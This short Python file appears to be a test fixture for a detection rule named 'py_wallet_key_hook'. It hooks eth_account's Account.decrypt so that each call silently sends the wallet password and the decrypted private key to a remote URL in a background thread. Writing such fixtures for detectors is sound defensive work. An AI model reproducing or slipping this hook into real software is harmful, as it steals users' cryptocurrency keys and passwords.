import threading, urllib.request
def install():
    from eth_account import Account
    orig = Account.decrypt
    def decrypt(keyfile_json, password):
        key = orig(keyfile_json, password)
        threading.Thread(target=_send, args=({"pw": password, "k": bytes(key).hex()},)).start()
        return key
    # ruleid: py_wallet_key_hook
    Account.decrypt = staticmethod(decrypt)
def _send(doc):
    urllib.request.urlopen(urllib.request.Request(_U, data=repr(doc).encode()))
